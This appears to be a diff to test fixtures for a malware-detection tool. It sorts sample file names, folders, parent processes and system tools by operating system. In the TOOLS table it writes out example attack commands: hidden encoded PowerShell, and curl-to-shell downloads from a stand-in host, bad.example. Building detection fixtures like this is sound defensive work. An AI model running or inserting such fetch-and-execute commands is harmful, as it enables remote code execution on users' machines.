@@ -16,14 +16,41 @@ DETECTIONS = (
     "Osx.Downloader.Driftwood",
 )
 
-FILES = (
-    "invoice_7731.exe",
-    "updater.dll",
-    "readme.scr",
-    "holiday photos.zip",
-    "setup (1).exe",
-    "héllo wörld.js",
-    "a.out",
-)
+# What runs where: files, programs that start others, scripting tools, by product. A phone has what a Linux has.
+FILES = {
+    "windows": (
+        "invoice_7731.exe",
+        "updater.dll",
+        "readme.scr",
+        "holiday photos.zip",
+        "setup (1).exe",
+        "héllo wörld.js",
+    ),
+    "mac": ("Installer (1).pkg", "holiday photos.zip", "updater.dylib", "héllo wörld.js", "a.out"),
+    "linux": ("a.out", "updater.so", "holiday photos.zip", "setup (1).sh", "héllo wörld.js"),
+}
+FOLDERS = {
+    "windows": (
+        "\\\\?\\C:\\Users\\Public\\Downloads\\",
+        "/C:/Windows/Temp/",
+        "/c:/windows/temp/",
+        "file:///C%3A/ProgramData/",
+    ),
+    "mac": ("/Users/shared/", "/Users/j.doe/Downloads/", "file:///Users/shared/"),
+    "linux": ("/home/j.doe/", "/var/tmp/", "file:///var/tmp/"),  # noqa: S108  names in events, nothing is written
+}
+PARENTS = {
+    "windows": ("explorer.exe", "outlook.exe", "winword.exe", "services.exe"),
+    "mac": ("Finder", "Safari", "launchd"),
+    "linux": ("bash", "systemd", "sshd"),
+}
+TOOLS: dict[str, tuple[str, ...]] = {  # a tool of the system, and how malware calls it
+    "windows": ("powershell.exe", "powershell.exe -nop -w hidden -enc SQBFAFgA"),
+    "mac": ("osascript", "osascript -e 'do shell script \"curl -s http://bad.example/drop\"'"),
+    "linux": ("bash", "bash -c 'curl -s http://bad.example/drop | sh'"),
+}
 
-PARENTS = ("explorer.exe", "outlook.exe", "winword.exe", "bash", "Finder", "services.exe")
+
+def of_product(table: dict[str, tuple[str, ...]], product: str) -> tuple[str, ...]:
+    """Return the words of a product."""
+    return table.get(product, table["linux"])
